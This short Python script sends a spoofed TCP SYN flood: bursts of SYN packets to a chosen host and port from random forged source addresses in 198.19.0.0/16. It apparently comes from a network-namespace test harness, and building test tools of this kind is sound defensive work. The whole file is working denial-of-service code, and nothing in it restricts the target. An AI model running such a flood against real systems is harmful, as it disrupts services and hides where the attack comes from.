"""A spoofed SYN flood: COUNT SYNs to DST:DPORT from random sources in 198.19.0.0/16 (which
the namespace's kernel does not own, so the stack's SYN-ACKs to them die in the kernel) and
random ports, as fast as one raw socket sends.

usage: syn_flood.py DST DPORT COUNT SEED
prints: "sent N" (sendto calls that succeeded)
"""
import random
import sys

import rawip

dst, dport, count, seed = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
rng = random.Random(seed)
out = rawip.RawSender()
# An MSS option, as every real SYN carries one.
mss = bytes([2, 4, 0x05, 0xB4])
sent = 0
for _ in range(count):
    src = "198.19.%d.%d" % (rng.randrange(256), rng.randrange(1, 255))
    pkt = rawip.tcp_packet(src, dst, rng.randrange(1024, 65536), dport,
                           rng.getrandbits(32), 0, rawip.SYN, options=mss)
    sent += out.send(pkt)
print("sent %d" % sent)
